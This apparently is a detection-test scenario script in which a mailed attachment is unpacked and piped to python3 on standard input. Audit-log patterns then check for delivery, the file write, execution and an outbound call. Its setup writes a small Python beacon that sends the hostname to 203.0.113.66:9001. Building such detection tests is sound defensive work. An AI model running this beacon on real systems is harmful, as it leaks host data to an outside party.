# No argument names the file: the program comes on standard input.
title="Attached program given to Python on standard input"
what="The intern copies a message to /var/tmp, takes its parts out with munpack and gives the attached report.txt to python3 on standard input. No command line names the file. The program connects to 203.0.113.66 port 9001."
host=mx1.example.org user=intern daemons="cron sshd" audit_rules=audit-wide.rules

setup() { printf 'import platform, socket\nwith socket.create_connection(("203.0.113.66", 9001)) as s:\n    s.sendall(platform.node().encode())\n' > "$base/out/report.txt"; }
act() {
  small_talk 2
  mail_in --from audits@example.net --to intern@example.org --subject "Report for the audit" --attach "$base/out/report.txt:text/plain"
  wait_log 'from=<audits@example.net>'; wait_mail intern 1
  ssh_as intern <<'L'
mkdir /var/tmp/audit; cp Maildir/new/* /var/tmp/audit/; cd /var/tmp/audit
for m in *; do munpack $m; done
%sleep 3
python3 < report.txt
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<intern@example.org>.*status=sent' 'the message is delivered'
  file_step part 'munpack (openat|open):write CREATE .*report.txt' 'its part is written'
  exec_step execute 'python3\S* python3$' 'python starts without an argument'
  net_step beacon 'python3\S* 203.0.113.66:9001' 'what it read calls out'
}
